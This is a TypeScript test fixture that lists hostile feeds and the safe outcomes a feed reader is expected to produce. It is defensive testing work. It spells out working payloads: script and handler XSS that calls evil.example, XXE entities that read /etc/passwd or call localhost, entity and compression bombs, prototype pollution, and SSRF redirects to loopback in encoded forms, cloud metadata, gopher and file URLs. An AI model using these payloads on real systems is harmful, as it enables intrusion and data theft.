import type { IncomingHttpHeaders } from 'node:http'
import { brotliCompressSync, gzipSync } from 'node:zlib'

/** What a feed's server sends, and the expected result: a refusal, or items that contain only plain text. */
export interface HostileFeed {
  readonly headers?: IncomingHttpHeaders
  readonly status?: number
  readonly body: string | Buffer
  readonly outcome: 'READ' | 'FEED_UNREADABLE' | 'GATEWAY_UNAVAILABLE' | 'ADDRESS_REFUSED'
  /** Text of the first item, if the feed is read. */
  readonly text?: string
  readonly title?: string
}

const xml = '<?xml version="1.0" encoding="utf-8"?>'
const inRss = (item: string, before = '') => `${xml}${before}<rss version="2.0"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>T</title><item><guid>1</guid>${item}</item>
  </channel></rss>`
const html = (content: string) =>
  inRss(`<title>A title</title><content:encoded><![CDATA[<p>Good text.</p>${content}]]></content:encoded>`)
const cleaned = (content: string, text = 'Good text.'): HostileFeed => ({ body: html(content), outcome: 'READ', text })
const titled = (title: string, clean: string): HostileFeed => ({
  body: inRss(`<title>${title}</title><description>Good text.</description>`),
  outcome: 'READ',
  title: clean,
  text: 'Good text.',
})
const unreadable = (body: string | Buffer, headers?: IncomingHttpHeaders): HostileFeed => ({
  body,
  outcome: 'FEED_UNREADABLE',
  ...(headers ? { headers } : {}),
})
const redirect = (location: string, outcome: HostileFeed['outcome'] = 'ADDRESS_REFUSED'): HostileFeed => ({
  status: 302,
  headers: { location },
  body: '',
  outcome,
})
const zipped = Buffer.alloc(40 * 1024 * 1024, 'a')
const entities = (declarations: string) => inRss('<title>&c;</title>', `<!DOCTYPE rss [${declarations}]>`)

/** Malicious feeds; `port` is where a listener on this machine waits for a connection. */
export const hostileFeeds = (port: number): Readonly<Record<string, HostileFeed>> => ({
  ...markup,
  ...titles,
  ...documents(port),
  ...bytes,
  ...addresses(port),
})

const markup: Readonly<Record<string, HostileFeed>> = {
  'a script': cleaned('<script>fetch("//evil.example")</script>'),
  'a script that is cut off': cleaned('<script>fetch("//evil.example")'),
  'a script in another case': cleaned('<ScRiPt src=//evil.example/x.js></sCrIpT>'),
  'a script in a script': cleaned('<scr<script>ipt>alert(1)</scr</script>ipt>', 'Good text. ipt>alert(1)ipt>'),
  'a script as entities': cleaned('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', 'Good text. alert(1)'),
  'an image with a handler': cleaned('<img src=x onerror=alert(1)>'),
  'a handler without spaces': cleaned('<img/src=x/onerror=alert(1)>'),
  'a drawing with a handler': cleaned('<svg onload=alert(1)><text>bad</text><script>bad</script></svg>'),
  'a formula': cleaned(
    '<math><mtext><table><mglyph><style><img src=x onerror=bad></style></mglyph></table></mtext></math>',
  ),
  'a frame': cleaned('<iframe src="http://127.0.0.1/" srcdoc="<script>bad</script>">bad</iframe>'),
  'an object': cleaned('<object data="file:///etc/passwd">bad</object><embed src=x>'),
  'a form': cleaned('<form action=//evil.example><input name=password value=bad><button>bad</button></form>'),
  'a style': cleaned(
    '<style>@import "http://127.0.0.1/";</style><p style="background:url(//x)">More.</p>',
    'Good text. More.',
  ),
  'a link that runs': cleaned('<p><a href="javascript:alert(1)">More</a></p>', 'Good text. More'),
  'a refresh': cleaned('<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>'),
  'a comment': cleaned('<!-- bad --><!--[if IE]><p>bad</p><![endif]-->'),
  'a template': cleaned('<template><p>bad</p></template><noscript>bad</noscript>'),
  'marks that turn the writing': cleaned('<p>a\u202eb\u2066c\u200fd</p>', 'Good text. abcd'),
  'controls and invisible characters': cleaned('<p>a&#0;b&#7;c\u200bd\u00ade</p>', 'Good text. abcde'),
  'half a character': cleaned('<p>a&#xD800;b</p>', 'Good text. ab'),
  'tags of another alphabet': cleaned('<p>a\u{e0041}\u{e0042}b</p>', 'Good text. ab'),
  'nesting without end': cleaned(`${'<div>'.repeat(50_000)}bad`, ''),
  'end tags without beginning': cleaned('</div>'.repeat(20_000)),
  'attributes without end': cleaned(`<p ${'a="b" '.repeat(30_000)}>More.</p>`, 'Good text. More.'),
  'a tag that never ends': cleaned(`<p ${'x'.repeat(100_000)}`),
  'brackets alone': cleaned('<'.repeat(100_000)),
}

const titles: Readonly<Record<string, HostileFeed>> = {
  'a title with a tag': titled('&lt;b&gt;Big&lt;/b&gt; news', 'Big news'),
  'a title with a script': titled('News &lt;script&gt;alert(1)&lt;/script&gt;', 'News'),
  'a title escaped twice': titled('&amp;lt;img onerror=x&amp;gt; News', 'News'),
  'a title with ampersands': titled('Salt &amp;amp; pepper', 'Salt & pepper'),
  'a title with lines and marks': titled('One\n\ttwo \u202ethree', 'One two three'),
  'a title without end': titled('word '.repeat(50_000), 'word '.repeat(40).trim()),
  'no title': {
    body: inRss('<description>Good text.</description>'),
    outcome: 'READ',
    title: 'Good text.',
    text: 'Good text.',
  },
}

const documents = (port: number): Readonly<Record<string, HostileFeed>> => ({
  'a bomb of entities': unreadable(
    entities('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">'),
  ),
  'an entity from a file': unreadable(entities('<!ENTITY c SYSTEM "file:///etc/passwd">')),
  'an entity from this machine': unreadable(entities(`<!ENTITY c SYSTEM "http://127.0.0.1:${port}/">`)),
  'an entity of parameters': unreadable(entities(`<!ENTITY % c SYSTEM "http://127.0.0.1:${port}/"> %c;`)),
  'a document type from this machine': {
    body: inRss('<description>Good text.</description>', `<!DOCTYPE rss SYSTEM "http://127.0.0.1:${port}/x.dtd">`),
    outcome: 'READ',
    text: 'Good text.',
  },
  'a style sheet and an inclusion': {
    body: inRss(
      '<description>Good text.</description>',
      `<?xml-stylesheet href="http://127.0.0.1:${port}/"?><x xmlns:xi="http://www.w3.org/2001/XInclude"/>`,
    ),
    outcome: 'READ',
    text: 'Good text.',
  },
  'names that reach prototypes': unreadable(inRss('<__proto__><polluted>1</polluted></__proto__><constructor/>')),
  'JSON that reaches prototypes': {
    headers: { 'content-type': 'application/feed+json' },
    body: '{"version":"https://jsonfeed.org/version/1.1","__proto__":{"polluted":1},"items":[{"id":"1","content_text":"Good text."}]}',
    outcome: 'READ',
    text: 'Good text.',
  },
  'HTML that says it is XML': unreadable('<!doctype html><html><body><p>x</p></body></html>'),
  'a web page': unreadable('<html></html>', { 'content-type': 'text/html' }),
  'a picture': unreadable(Buffer.from('89504e470d0a1a0a', 'hex')),
  nothing: unreadable(''),
  'JSON that is no feed': unreadable('{"a":1}', { 'content-type': 'application/json' }),
  'XML that breaks off': unreadable(`${xml}<rss version="2.0"><channel><item><title>x`),
  'a section without end': unreadable(`${xml}<rss version="2.0"><channel><item><title>${'<![CDATA['.repeat(100_000)}`),
})

const bytes: Readonly<Record<string, HostileFeed>> = {
  'Korean in an encoding of its own': {
    headers: { 'content-type': 'text/xml; charset=euc-kr' },
    body: Buffer.concat([
      Buffer.from('<rss version="2.0"><channel><item><guid>1</guid><description>Good '),
      Buffer.from('c7d1b1b9', 'hex'),
      Buffer.from(' text.</description></item></channel></rss>'),
    ]),
    outcome: 'READ',
    text: 'Good 한국 text.',
  },
  'bytes that are no text': {
    body: Buffer.concat([
      Buffer.from('<rss version="2.0"><channel><item><guid>1</guid><description>Good '),
      Buffer.from('fffec0af', 'hex'),
      Buffer.from('text.</description></item></channel></rss>'),
    ]),
    outcome: 'READ',
    text: 'Good text.',
  },
  'UTF-16': {
    body: Buffer.from(`\ufeff${html('')}`.replace('utf-8', 'utf-16'), 'utf16le'),
    outcome: 'READ',
    text: 'Good text.',
  },
  'too many bytes': unreadable(Buffer.alloc(6 * 1024 * 1024, 'a')),
  'a bomb of gzip': unreadable(gzipSync(zipped), { 'content-encoding': 'gzip' }),
  'a bomb of brotli': unreadable(brotliCompressSync(zipped), { 'content-encoding': 'br' }),
  'an encoding upon an encoding': unreadable('x', { 'content-encoding': 'gzip, br' }),
  'a thousand items': {
    body: `${xml}<rss version="2.0"><channel>${'<item><description>Good text.</description></item>'.repeat(1_000)}</channel></rss>`,
    outcome: 'READ',
    text: 'Good text.',
  },
  'an error': { status: 500, body: 'secret', outcome: 'GATEWAY_UNAVAILABLE' },
  'a refusal': { status: 401, headers: { 'www-authenticate': 'Basic' }, body: 'secret', outcome: 'FEED_UNREADABLE' },
}

const addresses = (port: number): Readonly<Record<string, HostileFeed>> => ({
  'a redirect to this machine': redirect(`https://127.0.0.1:${port}/`),
  'a redirect without encryption': redirect(`http://127.0.0.1:${port}/`),
  'a redirect to a number': redirect('https://2130706433/'),
  'a redirect to a hexadecimal number': redirect('https://0x7f.0x0.0x0.0x1/'),
  'a redirect to an octal number': redirect('https://0177.0.0.01/'),
  'a redirect to a mapped address': redirect('https://[::ffff:7f00:1]/'),
  'a redirect to the cloud': redirect('https://169.254.169.254/latest/meta-data/'),
  'a redirect to another host': redirect('https://evil.example/'),
  'a redirect with a user': redirect('https://feeds.example.com@127.0.0.1/'),
  'a redirect with a user to the same host': redirect('https://user@feeds.example.com/'),
  'a redirect to another port': redirect(`https://feeds.example.com:${port}/`),
  'a redirect to a file': redirect('file:///etc/passwd'),
  'a redirect to a script': redirect('javascript:alert(1)'),
  'a redirect to data': redirect('data:text/xml,<rss/>'),
  'a redirect to gopher': redirect(`gopher://127.0.0.1:${port}/_x`),
  'a redirect to itself': redirect('https://feeds.example.com/feed', 'FEED_UNREADABLE'),
})
